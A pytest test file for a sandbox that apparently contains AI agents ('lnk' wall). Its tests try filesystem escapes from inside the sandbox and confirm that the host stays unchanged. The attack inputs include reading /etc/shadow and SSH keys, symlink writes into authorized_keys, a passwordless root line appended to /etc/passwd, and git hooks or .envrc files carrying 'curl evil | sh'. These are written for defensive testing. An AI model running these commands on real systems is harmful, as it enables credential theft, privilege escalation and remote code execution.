"""The wall's filesystem side, attacked from inside a real sandbox.

Each attack is checked twice: the sandbox sees a refusal, and the host (looked at from outside,
as root) shows that nothing happened: no bait in the output, no file made, the folder unchanged.
Each group has a neighbour test showing that what is granted still works.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from as_owner import run_as_owner

from lnk_controller.wall import ETC_FILES, sandbox_hosts

RunningBox = Any  # tests/e2e/conftest.py

pytestmark = pytest.mark.needs_root

STARTED = "lnk-wall-test: the script started"
Snapshot = dict[str, tuple[int, int, int, bytes | str]]


def _give(owner: Any, root: Path) -> None:
    """Hand `root` and everything below it to the owner, as their own files would be."""
    for dirpath, dirnames, filenames in os.walk(root):
        for name in [dirpath, *(os.path.join(dirpath, n) for n in dirnames + filenames)]:
            os.chown(name, owner.uid, owner.gid, follow_symlinks=False)


def _snapshot(root: Path) -> Snapshot:
    """Every entry below `root`: mode, owner, group and content (or link target)."""
    found: Snapshot = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            info = path.lstat()
            content: bytes | str = b""
            if stat.S_ISLNK(info.st_mode):
                content = os.readlink(path)
            elif stat.S_ISREG(info.st_mode):
                content = path.read_bytes()
            found[str(path.relative_to(root))] = (info.st_mode, info.st_uid, info.st_gid, content)
    return found


def _attempt(box: RunningBox, script: str, *flags: str) -> subprocess.CompletedProcess[str]:
    """Run `script` in a sandbox and check it did start: a launch that fails refuses
    everything and proves nothing. The result's stdout is what the script printed."""
    result = box.sh(f"echo {STARTED}; {script}", *flags)
    first, _, rest = result.stdout.partition("\n")
    assert first == STARTED, f"the sandbox did not start: {result.stderr}"
    return subprocess.CompletedProcess(result.args, result.returncode, rest, result.stderr)


@pytest.fixture
def project(running_box: RunningBox) -> Iterator[Path]:
    """A fresh project folder in the owner's home: readme.txt, out/, .git/hooks/pre-commit."""
    path = running_box.owner.home / f"wall-{secrets.token_hex(4)}"
    (path / "out").mkdir(parents=True)
    (path / "readme.txt").write_text("hello project\n")
    (path / ".git" / "hooks").mkdir(parents=True)
    (path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    _give(running_box.owner, path)
    yield path
    shutil.rmtree(path, ignore_errors=True)


# -- reading what is not granted ---------------------------------------------------------------


@pytest.mark.parametrize("bait", ["secret.txt", ".ssh/id_ed25519"])
@pytest.mark.parametrize("grant", ["nothing", "a sibling folder"])
def test_reading_owner_home_bait_is_refused(
    running_box: RunningBox, project: Path, bait: str, grant: str
) -> None:
    home = running_box.owner.home
    flags = [f"--read={project}"] if grant == "a sibling folder" else []
    result = _attempt(running_box, f"cat {home}/{bait}; ls -la {home} {home}/.ssh", *flags)
    assert result.returncode != 0
    assert running_box.owner.secret not in result.stdout + result.stderr
    assert "id_ed25519" not in result.stdout


def test_reading_root_home_is_refused(running_box: RunningBox) -> None:
    secret = secrets.token_hex(16)
    bait = Path("/root") / f"lnk-wall-bait-{secrets.token_hex(4)}"
    bait.write_text(f"{secret}\n")
    try:
        result = _attempt(running_box, f"cat {bait}; ls -la /root")
    finally:
        bait.unlink()
    assert result.returncode != 0
    assert secret not in result.stdout + result.stderr
    assert bait.name not in result.stdout


def test_reading_etc_shadow_is_refused(running_box: RunningBox) -> None:
    result = _attempt(running_box, "cat /etc/shadow /etc/gshadow")
    assert result.returncode != 0
    with open("/etc/shadow", encoding="utf-8") as f:
        shadow = [line.strip() for line in f if line.strip()]
    assert shadow, "the host has an /etc/shadow to protect"
    leaked = [line for line in shadow if line in result.stdout + result.stderr]
    assert not leaked


def test_read_grant_is_readable(running_box: RunningBox, project: Path) -> None:
    result = running_box.sh(f"cat {project}/readme.txt", f"--read={project}")
    assert result.returncode == 0, result.stderr
    assert result.stdout == "hello project\n"


# -- writing outside write grants ---------------------------------------------------------------


def test_write_into_a_read_grant_is_refused(running_box: RunningBox, project: Path) -> None:
    before = _snapshot(project)
    result = _attempt(
        running_box,
        f"echo pwned > {project}/new.txt; echo pwned >> {project}/readme.txt; "
        f"rm -f {project}/readme.txt; mkdir {project}/made",
        f"--read={project}",
    )
    assert result.returncode != 0
    assert "Read-only file system" in result.stderr
    assert _snapshot(project) == before


def test_write_through_symlink_to_owner_home_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    home = running_box.owner.home
    home_before = sorted(p.name for p in home.iterdir())
    result = _attempt(
        running_box,
        f"ln -s {home} {project}/out/home && echo pwned > {project}/out/home/pwned.txt; "
        f"ln -s {home}/.ssh {project}/out/ssh && echo pwned >> {project}/out/ssh/authorized_keys",
        f"--write={project}/out",
    )
    assert result.returncode != 0
    assert not (home / "pwned.txt").exists()
    assert not (home / ".ssh" / "authorized_keys").exists()
    assert sorted(p.name for p in home.iterdir()) == home_before
    assert running_box.owner.secret not in result.stdout + result.stderr


def test_write_through_symlink_to_etc_is_refused(running_box: RunningBox, project: Path) -> None:
    name = f"lnk-wall-pwned-{secrets.token_hex(4)}"
    result = _attempt(
        running_box,
        f"ln -s /etc {project}/out/etc && echo pwned > {project}/out/etc/{name}; "
        f"ln -s /etc/passwd {project}/out/passwd && echo 'x::0:0::/:/bin/sh' >> "
        f"{project}/out/passwd",
        f"--write={project}/out",
    )
    assert result.returncode != 0
    assert not Path("/etc", name).exists()
    with open("/etc/passwd", encoding="utf-8") as f:
        assert "x::0:0::/:/bin/sh" not in f.read()


def test_write_through_hard_link_to_an_outside_file_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    result = _attempt(
        running_box,
        f"ln {project}/readme.txt {project}/out/readme && echo pwned >> {project}/out/readme; "
        f"ln /etc/hostname {project}/out/hostname && echo pwned >> {project}/out/hostname",
        f"--read={project}",
        f"--write={project}/out",
    )
    assert result.returncode != 0
    assert _snapshot(project) == before
    assert (project / "readme.txt").stat().st_nlink == 1


def test_hard_link_to_a_git_hook_in_a_write_folder_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    result = _attempt(
        running_box,
        f"cd {project} && ln .git/hooks/pre-commit hook && echo 'curl evil | sh' >> hook",
        f"--write={project}",
    )
    assert result.returncode != 0
    assert _snapshot(project) == before
    assert (project / ".git" / "hooks" / "pre-commit").stat().st_nlink == 1


def test_rename_of_a_write_grants_parent_is_refused(running_box: RunningBox, project: Path) -> None:
    before = _snapshot(project)
    moved = project.with_name(project.name + "-moved")
    result = _attempt(
        running_box,
        f"mv {project} {moved}; mv {project}/out {project}/out2; "
        f"mkdir -p {project}-fake && mv {project}-fake {project}",
        f"--read={project}",
        f"--write={project}/out",
    )
    assert result.returncode != 0
    assert not moved.exists()
    assert not Path(f"{project}-fake").exists()
    assert _snapshot(project) == before


def test_rename_of_an_ungranted_parent_of_a_write_grant_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    moved = project.with_name(project.name + "-moved")
    result = _attempt(running_box, f"mv {project} {moved}", f"--write={project}/out")
    assert result.returncode != 0
    assert not moved.exists()
    assert _snapshot(project) == before


# -- top-level dot entries of a write folder ----------------------------------------------------


def test_write_into_git_hooks_of_a_write_folder_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    result = _attempt(
        running_box,
        f"cd {project} && echo 'curl evil | sh' > .git/hooks/post-checkout; "
        "echo 'curl evil | sh' >> .git/hooks/pre-commit; rm .git/hooks/pre-commit",
        f"--write={project}",
    )
    assert result.returncode != 0
    assert not (project / ".git" / "hooks" / "post-checkout").exists()
    assert _snapshot(project) == before


def test_creating_envrc_in_a_write_folder_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    assert not (project / ".envrc").exists()
    result = _attempt(
        running_box, f"echo 'curl evil | sh' > {project}/.envrc", f"--write={project}"
    )
    assert result.returncode != 0
    assert not (project / ".envrc").exists()
    assert _snapshot(project) == before


def test_creating_vscode_tasks_in_a_write_folder_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    before = _snapshot(project)
    assert not (project / ".vscode").exists()
    result = _attempt(
        running_box,
        f"mkdir -p {project}/.vscode; echo '{{\"tasks\": []}}' > {project}/.vscode/tasks.json",
        f"--write={project}",
    )
    assert result.returncode != 0
    assert not (project / ".vscode").exists()
    assert _snapshot(project) == before


HOOK = ".git/hooks/post-checkout"  # run by the owner's git, outside the sandbox, on checkout
PLANT = f"mkdir -p .git/hooks && echo 'curl evil | sh' > {HOOK}"


def test_renaming_git_aside_to_plant_a_hook_is_refused(
    running_box: RunningBox, project: Path
) -> None:
    """`.git/hooks` is kept read-only, but `.git` itself is an ordinary folder of the write
    grant: moving it aside and making a new `.git/hooks` would plant a hook the owner's git
    runs outside the sandbox."""
    before = _snapshot(project)
    result = _attempt(
        running_box, f"cd {project} && mv .git .git-old && {PLANT}", f"--write={project}"
    )
    assert not (project / HOOK).exists(), f"planted {project / HOOK}"
    assert not (project / ".git-old").exists()
    assert _snapshot(project) == before
    assert result.returncode != 0


@pytest.mark.parametrize("how", ["chmod", "rename"])
def test_planting_a_hook_in_a_missing_git_is_refused(
    running_box: RunningBox, project: Path, how: str
) -> None:
    """A write folder with no `.git` gets a read-only stand-in for the dot entries tools run;
    the sandbox must not be able to open it up (`chmod`, it owns it through the idmapped
    mount) or move it aside (`rename`), then put `hooks/` in a `.git`."""
    shutil.rmtree(project / ".git")
    before = _snapshot(project)
    attack = {"chmod": "chmod u+w .git", "rename": "mv .git .git-old"}[how] + f" && {PLANT}"
    result = _attempt(
        running_box, f"cd {project} && {attack}", f"--write={project}", "--command=chmod"
    )
    assert not (project / HOOK).exists(), f"{how}: planted {project / HOOK}"
    assert not (project / ".git").exists()
    assert not (project / ".git-old").exists()
    assert _snapshot(project) == before
    assert result.returncode != 0


def test_write_grant_is_writable_beside_its_dot_entries(
    running_box: RunningBox, project: Path
) -> None:
    result = running_box.sh(
        f"cd {project} && echo made > made.txt && mkdir -p src && mv made.txt src/moved.txt && "
        "echo change >> readme.txt",
        f"--write={project}",
    )
    assert result.returncode == 0, result.stderr
    assert (project / "src" / "moved.txt").read_text() == "made\n"
    assert (project / "readme.txt").read_text() == "hello project\nchange\n"


# -- what the sandbox writes belongs to the owner ------------------------------------------------


def test_files_written_in_a_write_grant_are_owned_by_the_owner(
    running_box: RunningBox, project: Path
) -> None:
    owner = running_box.owner
    out = project / "out"
    result = running_box.sh(
        f"echo made > {out}/made.txt && mkdir -p {out}/sub && echo deep > {out}/sub/deep.txt",
        f"--write={out}",
    )
    assert result.returncode == 0, result.stderr
    for path in (out / "made.txt", out / "sub", out / "sub" / "deep.txt"):
        info = path.lstat()
        assert (info.st_uid, info.st_gid) == (owner.uid, owner.gid), path
    # A shell on the host as the owner (no sandbox), using what the sandbox left.
    script = (
        f"cat {out}/made.txt && echo more >> {out}/made.txt && rm -r {out}/sub && "
        f"mv {out}/made.txt {out}/kept.txt"
    )
    used = run_as_owner(running_box, ["/bin/sh", "-c", script], timeout=30)
    assert used.returncode == 0, used.stderr
    assert used.stdout == "made\n"
    assert (out / "kept.txt").read_text() == "made\nmore\n"
    assert not (out / "sub").exists()


# -- a read grant of the whole home still hides the box's own folders ----------------------------


@pytest.mark.parametrize("history", ["without-link-history", "with-link-history"])
def test_read_of_home_still_hides_box_settings_and_agents(
    running_box: RunningBox, history: str
) -> None:
    home = running_box.owner.home
    token = secrets.token_hex(8)  # the baits' content: never in their names
    made = [home / name for name in (".lnk", "Link") if not (home / name).exists()]
    (home / ".lnk").mkdir(exist_ok=True)
    (home / "Link" / "Agents" / "a").mkdir(parents=True, exist_ok=True)
    if history == "with-link-history":
        (home / "Link" / "History").mkdir(exist_ok=True)
    baits = [home / ".lnk" / "bait", home / "Link" / "Agents" / "a" / "bait"]
    for bait in baits:
        bait.write_text(f"BAIT {token}\n")
    _give(running_box.owner, home)
    try:
        result = _attempt(
            running_box,
            f"cat {baits[0]} {baits[1]}; ls -la {home}/.lnk {home}/Link/Agents; "
            f"cat {home}/project/readme.txt",
            "--read=~",
        )
    finally:
        for bait in baits:
            bait.unlink()
        for folder in made:
            shutil.rmtree(folder, ignore_errors=True)
    assert "hello project\n" in result.stdout, result.stderr  # the grant itself works
    assert token not in result.stdout + result.stderr
    assert "Permission denied" in result.stderr


# -- /etc: a few copies and directory binds, read-only, nothing else ----------------------------

# Run inside once for the whole group (one launch): what /etc looks like, and each change tried
# on a copied file (/etc/hosts), the generated /etc/passwd and a bound directory (/etc/ssl).
ETC_PROBE = r"""
import errno, hashlib, json, os
def attempt(change):
    try:
        change()
        return "done"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def append(path):
    with open(path, "a") as f:
        f.write("pwned\n")
def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()
changes = {
    "append": lambda p: append(p),
    # 0600, not 0666: the mode filter refuses 0666 first (EPERM), which would hide the mount
    "chmod": lambda p: os.chmod(p, 0o600),
    "rename-over": lambda p: os.replace("/etc/host.conf", p),
    "rename-away": lambda p: os.rename(p, p + ".old"),
    "unlink": lambda p: os.unlink(p),
    "hard-link": lambda p: os.link(p, p + ".link"),
    "utime": lambda p: os.utime(p, (0, 0)),
}
print(json.dumps({
    "uid": os.getuid(),
    "etc": sorted(os.listdir("/etc")),
    "ssl": sorted(os.listdir("/etc/ssl")),
    "digests": {p: digest(p) for p in ("/etc/hosts", "/etc/ld.so.cache", "/etc/ssl/openssl.cnf")},
    "passwd": open("/etc/passwd").read(),
    "hosts_mode": oct(os.stat("/etc/hosts").st_mode),
    "absent": {p: not os.path.lexists(p) for p in ("/etc/shadow", "/etc/lnk", "/etc/ssh")},
    "changes": {f"{name} {p}": attempt(lambda: change(p))
                for name, change in changes.items() for p in ("/etc/hosts", "/etc/passwd")},
    "new-in-etc": attempt(lambda: open("/etc/new-file", "x").close()),
    "new-in-ssl": attempt(lambda: open("/etc/ssl/new-file", "x").close()),
}))
"""


@pytest.fixture(scope="module")
def etc_inside(running_box: RunningBox) -> dict[str, Any]:
    before = {p: Path(p).read_bytes() for p in ("/etc/hosts", "/etc/host.conf")}
    result = running_box.run(cmd=["python3", "-c", ETC_PROBE])
    assert result.returncode == 0, result.stderr
    assert {p: Path(p).read_bytes() for p in before} == before, "the host's /etc changed"
    found: dict[str, Any] = json.loads(result.stdout)
    return found


def test_copied_etc_files_have_the_hosts_content(etc_inside: dict[str, Any]) -> None:
    digests = dict(etc_inside["digests"])
    # /etc/hosts is the sandbox's own, naming nothing of the host (test_wall_caller_side).
    own_hosts = hashlib.sha256(sandbox_hosts().encode()).hexdigest()
    assert digests.pop("/etc/hosts") == own_hosts
    for path, digest in digests.items():
        assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == digest, path
    assert etc_inside["hosts_mode"] == oct(stat.S_IFREG | 0o644)


@pytest.mark.parametrize(
    "change",
    [
        f"{name} {path}"
        for name in (
            "append",
            "chmod",
            "rename-over",
            "rename-away",
            "unlink",
            "hard-link",
            "utime",
        )
        for path in ("/etc/hosts", "/etc/passwd")
    ]
    + ["new-in-etc", "new-in-ssl"],
)
def test_etc_cannot_be_changed_from_inside(etc_inside: dict[str, Any], change: str) -> None:
    outcome = etc_inside["changes"].get(change) or etc_inside[change]
    assert outcome in ("EROFS", "EACCES"), f"{change}: {outcome}"


def test_etc_holds_only_the_listed_entries_and_the_sandboxs_users(
    running_box: RunningBox, etc_inside: dict[str, Any]
) -> None:
    allowed = {Path(p).name for p in ETC_FILES} | {"passwd", "group", "hosts"}
    assert set(etc_inside["etc"]) <= allowed
    assert {"hosts", "passwd", "group", "ld.so.cache", "ssl"} <= set(etc_inside["etc"])
    assert all(etc_inside["absent"].values()), etc_inside["absent"]
    users = {line.split(":")[0]: line.split(":")[2] for line in etc_inside["passwd"].splitlines()}
    assert users.pop("root") == "0" and users.pop("nobody") == "65534"
    assert list(users.values()) == [str(etc_inside["uid"])], users
    assert running_box.owner.name not in etc_inside["passwd"]


def test_a_bound_etc_directory_is_readable(etc_inside: dict[str, Any]) -> None:
    assert etc_inside["ssl"] == sorted(os.listdir("/etc/ssl"))
    assert etc_inside["ssl"], "the host has an /etc/ssl to show"
